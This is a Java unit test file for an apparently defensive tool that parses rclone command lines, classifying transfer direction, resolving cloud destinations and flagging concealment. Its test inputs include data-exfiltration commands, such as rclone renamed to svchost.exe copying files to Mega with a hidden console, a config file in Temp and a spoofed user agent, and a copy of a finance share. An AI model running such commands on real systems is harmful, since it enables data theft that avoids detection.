package exfilwatch.rclone;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import exfilwatch.rclone.Explanation.Verdict;
import java.io.IOException;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class ExplainTest {

  private static Explanation posix(String line) {
    return Rclone.explain(line, Os.POSIX, null, Map.of());
  }

  private static Explanation windows(String line) {
    return Rclone.explain(line, Os.WINDOWS, null, Map.of());
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '!',
      quoteCharacter = '~',
      value = {
        "rclone copy /a b: ! upload",
        "rclone copy b: /a ! download",
        "rclone sync a: b: ! remote_to_remote",
        "rclone move /a /b ! local",
        "rclone copy /a :local:/b ! local",
        "rclone copy /a :alias,remote=/b:x ! local",
        "rclone copy /a ':crypt,remote=\"m:e\":x' ! upload",
        "rclone copy /a ':union,upstreams=\"/b /c\":' ! local",
        "rclone rcat b:x ! upload",
        "rclone cat b:x ! download",
        "rclone copyurl https://h.example/f /a ! download",
        "rclone archive create /a b:x.zip ! upload",
        "rclone lsd b: ! none",
        "rclone mount b: /mnt ! none",
        "rclone purge b: ! none",
        "rclone version ! none",
        "rclone rc sync/copy srcFs=/a dstFs=b: ! upload",
        "rclone rc operations/list fs=b: ! none",
      })
  void tellsTheDirection(String line, String direction) {
    Explanation explanation = posix(line);
    assertThat(explanation.verdict()).isEqualTo(Verdict.RUNS);
    assertThat(explanation.invocation().direction()).hasToString(direction);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '!',
      quoteCharacter = '~',
      value = {
        "rclone copy /a b: --max-size 1MB",
        "rclone copy /a b: --transfers x",
        "rclone copy /a b: --max-age 1d12h",
        "rclone copy /a b: --s3-use-multipart-etag --s3-env-auth",
        "rclone copy /a b: -q -v",
        "rclone copy /a b: --log-level LOUD",
        "rclone copy /a b: --cutoff-mode quick",
        "rclone copy /a b: --filter x",
        "rclone copy /a b: --files-from l --include *.doc",
        "rclone copy /a :nosuch:b",
        "rclone copy /a b*:c",
        "rclone copy /a ''",
        "rclone copy /a b: --config ''",
        "rclone COPY /a b:",
        "rclone config nosuch",
        "rclone mount b:",
        "rclone tree -t x b: y",
      })
  void tellsWhatRcloneRefuses(String line) {
    Explanation explanation = posix(line);
    assertThat(explanation.verdict()).isEqualTo(Verdict.REJECTED);
    assertThat(explanation.reason()).isNotEmpty();
    assertThat(explanation.invocation()).isNotNull();
  }

  @Test
  void anEnvironmentVariableIsADefault() {
    Map<String, String> environment =
        Map.of("RCLONE_DRY_RUN", "true", "RCLONE_INCLUDE", "*.doc,*.xls");
    Explanation dry = Rclone.explain("rclone copy /a b:", Os.POSIX, null, environment);
    assertThat(dry.invocation().dryRun()).isTrue();
    assertThat(dry.invocation().filters().given())
        .containsEntry("include", List.of("*.doc", "*.xls"));
    Explanation wet =
        Rclone.explain("rclone copy /a b: --dry-run=false", Os.POSIX, null, environment);
    assertThat(wet.invocation().dryRun()).isFalse();
  }

  @Test
  void aFlagTakenAsAValueIsNone() {
    assertThat(posix("rclone copy --include --dry-run /a b:").invocation().dryRun()).isFalse();
    assertThat(posix("rclone copy /a b,global.dry_run:x").invocation().dryRun()).isTrue();
  }

  @Test
  void theDestinationIsResolved() {
    Remote r2 =
        posix(
                "rclone copy /a ':s3,provider=Cloudflare,access_key_id=AKID,"
                    + "endpoint=\"https://0123abc.r2.cloudflarestorage.com\":bkt/p/q'")
            .invocation()
            .destination();
    assertThat(r2.name()).isEqualTo(":s3");
    assertThat(r2.bucket()).isEqualTo("bkt");
    assertThat(r2.path()).isEqualTo("bkt/p/q");
    assertThat(r2.identities())
        .containsEntry("access_key_id", "AKID")
        .containsEntry("account_id", "0123abc");
    assertThat(r2.hostPatterns())
        .contains("0123abc.r2.cloudflarestorage.com", "*.r2.cloudflarestorage.com");

    Remote told =
        posix("rclone copy /a :s3,endpoint=s3.wasabisys.com:b").invocation().destination();
    assertThat(told.provider()).isEqualTo("Wasabi");

    Remote cut =
        posix("rclone copy /a :s3,endpoint=https://h.example:9000:b").invocation().destination();
    assertThat(cut.endpoint()).isEqualTo("https");
    assertThat(cut.path()).isEqualTo("//h.example:9000:b");
    assertThat(cut.intendedEndpoint()).isEqualTo("h.example:9000");

    Remote azure =
        posix("rclone copy /a ':azureblob,sas_url=\"https://acc.blob.core.windows.net/c?sig=x\":c'")
            .invocation()
            .destination();
    assertThat(azure.identities()).containsEntry("account", "acc");
    assertThat(azure.endpoint()).isEqualTo("acc.blob.core.windows.net");
    assertThat(azure.raw()).doesNotContain("sig=");
  }

  @Test
  void flagsApplyToEveryRemoteOfTheTypeAndConnectionStringsWin() {
    Remote destination =
        posix("rclone copy :s3:a ':s3,region=r2:b' --s3-region r1 --s3-provider AWS")
            .invocation()
            .destination();
    assertThat(destination.endpoint()).isEqualTo("s3.r2.amazonaws.com");
    assertThat(destination.config()).isEqualTo(Map.of("region", "r2"));
  }

  @Test
  void wrappersAreResolvedToWhatIsBelow() {
    Remote crypt =
        posix("rclone copy /a ':crypt,remote=\":mega,user=u@example.test:e\",password=abcdefgh:x'")
            .invocation()
            .destination();
    assertThat(crypt.wraps()).hasSize(1);
    assertThat(crypt.wraps().get(0).backend()).isEqualTo("mega");
    assertThat(crypt.hostPatterns()).contains("*.mega.co.nz");
  }

  @Test
  void aNetworkShareHasHostAndShare() {
    Remote source = windows("rclone copy \\\\fs01\\Finance\\2024 mega:x").invocation().source();
    assertThat(source.kind()).isEqualTo(Remote.Kind.UNC_PATH);
    assertThat(source.host()).isEqualTo("fs01");
    assertThat(source.share()).isEqualTo("Finance");
    assertThat(source.path()).isEqualTo("//fs01/Finance/2024");
    Remote device = windows("rclone copy \\\\?\\C:\\x mega:x").invocation().source();
    assertThat(device.kind()).isEqualTo(Remote.Kind.LOCAL_PATH);
  }

  @Test
  void hidingAndEvidenceToCollectAreListed() {
    Invocation invocation =
        windows(
                "svchost.exe copy C:\\d mega:x --config C:\\Windows\\Temp\\a.conf --no-console"
                    + " --user-agent Mozilla/5.0 --log-file C:\\l.txt --include-from C:\\i.txt"
                    + " --auto-confirm --transfers 16")
            .invocation();
    assertThat(invocation.hiding())
        .containsExactly("renamed", "no_console", "config_in_temp", "user_agent");
    assertThat(invocation.collect())
        .containsExactly("C:\\Windows\\Temp\\a.conf", "C:\\l.txt", "C:\\i.txt");
    assertThat(invocation.promptsSuppressed()).isTrue();
    assertThat(invocation.pace()).containsEntry("transfers", 16L);
  }

  @Test
  void whatIsTargetedComesFromTheFilters() {
    Invocation invocation =
        posix("rclone copy /a b: --include '*.{doc,xls}' --max-age 3y --max-size 1G").invocation();
    assertThat(invocation.targeted().extensions()).containsExactly("doc", "xls");
    assertThat(invocation.filters().inOrder()).containsExactly("+ *.{doc,xls}", "- *");
    assertThat(invocation.filters().bounds())
        .containsEntry("max_size_bytes", 1L << 30)
        .containsEntry("max_age_seconds", 3 * 365 * 86_400L);
  }

  @Test
  void configCreateNamesTheAccount() {
    Explanation explanation =
        windows("rclone config create m mega user u@example.test pass hunter22");
    assertThat(explanation.invocation().purpose()).isEqualTo(Purpose.PREPARATION);
    assertThat(explanation.invocation().destination().backend()).isEqualTo("mega");
    assertThat(explanation.invocation().identities()).containsEntry("user", "u@example.test");
    assertThat(explanation.argv()).endsWith("pass", "[REDACTED]");
    assertThat(explanation.redacted()).containsExactly("pass");
  }

  @Test
  void knownByOtherMeansTheVerdictDoesNotNeedTheGrammar() {
    String line = "x.exe copy C:\\a D:\\b";
    assertThat(windows(line).verdict()).isEqualTo(Verdict.NOT_RCLONE);
    assertThat(
            Rclone.explain(line, Os.WINDOWS, null, Map.of(), true, java.time.Instant.EPOCH)
                .verdict())
        .isEqualTo(Verdict.RUNS);
  }

  @Test
  void theMountHelperIsAMount() {
    Explanation explanation =
        posix("mount.rclone mega: /mnt -o rw,vfs_cache_mode=full,env.RCLONE_CONFIG_MEGA_TYPE=mega");
    assertThat(explanation.verdict()).isEqualTo(Verdict.RUNS);
    assertThat(explanation.invocation().command()).isEqualTo("mount");
    assertThat(explanation.invocation().source().backend()).isEqualTo("mega");
    assertThat(explanation.invocation().hiding()).contains("daemon");
  }

  @Test
  void theJsonHasTheFieldsOfTheContract() throws IOException {
    JsonNode json =
        new ObjectMapper()
            .readTree(
                windows("rclone copy C:\\d :mega,user=u,pass=abcdefgh:x -n --include *.doc")
                    .toJson());
    assertThat(json.properties().stream().map(Map.Entry::getKey))
        .contains(
            "verdict",
            "confidence",
            "evidence",
            "argv",
            "command",
            "direction",
            "dry_run",
            "source",
            "destination",
            "filters",
            "targeted",
            "pace",
            "hiding",
            "identities",
            "redacted",
            "collect")
        .doesNotContain("wrapper", "reason");
    assertThat(json.at("/dry_run").asBoolean()).isTrue();
    assertThat(json.at("/destination/config/pass").asText()).isEqualTo("[REDACTED]");
    assertThat(json.at("/destination/raw").asText()).isEqualTo(":mega,user=u,pass=[REDACTED]:x");
    assertThat(json.at("/source/kind").asText()).isEqualTo("local_path");
    assertThat(json.at("/evidence/0/points").isInt()).isTrue();
  }
}
